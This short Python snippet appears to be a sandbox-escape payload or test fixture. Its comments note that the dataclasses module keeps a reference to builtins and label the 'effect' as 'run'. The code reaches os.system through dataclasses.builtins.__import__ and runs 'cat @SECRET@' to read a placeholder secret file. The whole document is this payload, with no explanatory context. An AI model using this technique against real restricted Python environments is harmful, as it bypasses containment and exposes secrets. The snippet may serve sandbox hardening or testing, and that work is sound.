# dataclasses keeps builtins.
# effect: run
import dataclasses
dataclasses.builtins.__import__("os").system("cat @SECRET@")
